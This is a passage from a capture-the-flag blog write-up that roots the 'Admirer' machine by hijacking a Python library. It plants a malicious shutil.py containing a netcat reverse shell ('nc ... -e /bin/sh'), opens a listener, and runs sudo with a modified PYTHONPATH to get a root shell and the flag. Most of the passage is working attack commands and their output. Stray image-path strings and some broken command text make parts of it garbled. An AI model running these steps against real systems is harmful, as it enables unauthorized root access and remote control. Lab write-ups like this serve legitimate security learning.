The directory that contains the script also contains a script called backup.py. This script contains a vulnerability in the form of modifying the PYTHONPATH variable to another location. Because of this, when calling the script at a different location, a shutil.py will be searched for and the script will run with higher permissions (probably root).waldo@admirer:/opt/scripts$ cat backup.py
from shutil import make_archive
src = '/var/www/html/'
# old ftp directory, not used anymore
#dst = '/srv/ftp/html'
dst = '/var/backups/html'
make_archive(dst, 'gztar', src)
python3 -c'import sys; print ("\ n" .join (sys.path)) '
\ n/usr/lib/python35.zip\ n/usr/lib/python3.5\ n/usr/lib/python3.5/plat-x86_64-linux-gnu\ n/usr/lib/python3.5/lib-dynload\ n/usr/local/lib/python3.5/dist-packages\ n/usr/lib/python3/dist-packages

I create a temporary folder called templib and create a new shutil.py in it. In the file I put a Python reverse shell back to my machine. This should work if it is executed with the proper permissions.

cd ~
mkdir templib
nano ~/templib/shutil.py

import os

def make_archive(a,s,d):
    os.system("nc 1337 -e /bin/sh")

On my own machine, I start a Netcat handler on port 1337 (becauseof hacker).

rlwrap netcat -lvnp 1337
listening on [any] 1337 ...

By changing the variable PYTHONPATH to /templib/ and running the admin_tasks.sh script the new location for the shutil.py script is used and the reverse shell is started.

sudo PYTHONPATH=~/templib//opt/scripts/admin_tasks.sh

[[[ System Administration Menu ]]]
1) View system uptime
2) View logged in users
3) View crontab
4) Backup passwd file
5) Backup shadow file
6) Backup web data
7) Backup DB
8) Quit
Choose an option: 6
Running backup script in the background, it might take a while...

And there it is, the incoming connection by running the reverse shell.

rlwrap netcat -lvnp 1337
listening on [any] 1337 ...
connect to [] from (UNKNOWN) [] 60916

Just to be sure, give it a try and get a more interactive shell.

python -c 'import os; os.system("/bin/sh")'

And it worked! Thecustom script in which I placed the reverse shell is executed as root, because visible through the whoami. Now it’s just a matter of grabbing the root flag.


uid=0(root) gid=0(root) groups=0(root)

As always it is neatly placed in /root/Desktop and thus Admirer is officially rooted!

cat root.txt

[box type=”warning” align=”” class=”” width=””]All information in this post is for educational use only! Do not use it at others when you do nothave explicit approval to do so. I am not responsible for your actions. Using this knowledge for illegal activities could land you in jail![/box]


Ethical Hacker | Cybersecurity enthusiast | Always looking to expand my knowledge | got root?

Addcomment

This site uses Akismet to reduce spam. Learn how your comment data is processed.

YourHeader Sidebar area is currently empty. Hurry upand add some widgets.